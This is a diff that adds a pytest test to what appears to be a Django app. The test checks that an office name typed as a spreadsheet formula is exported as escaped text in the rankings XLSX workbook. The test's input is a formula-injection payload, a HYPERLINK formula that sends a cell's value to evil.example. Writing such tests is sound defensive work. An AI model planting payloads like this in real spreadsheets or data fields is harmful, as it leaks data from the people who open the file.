@@ -202,3 +202,15 @@ def test_region_membership_needs_a_region():
 
     with pytest.raises(ValidationError):
         Membership(role=Role.REGION_EXPERT).clean()
+
+
+def test_an_office_name_typed_as_a_formula_stays_text_in_the_rankings_workbook(client, ranked, make_user):
+    office = ranked[0].office
+    office.name = '=HYPERLINK("http://evil.example/?"&A1,"جزئیات")'
+    office.save()
+    client.force_login(make_user(role=Role.HQ_PLANNER, scope={"org_unit": _hq_unit()}))
+    response = client.get(reverse("counters:rankings"), {"format": "xlsx"})
+    sheet = load_workbook(BytesIO(response.content)).active
+    cell = next(row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == office.code)
+    assert cell.data_type == "s" and cell.value == "'" + office.name
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
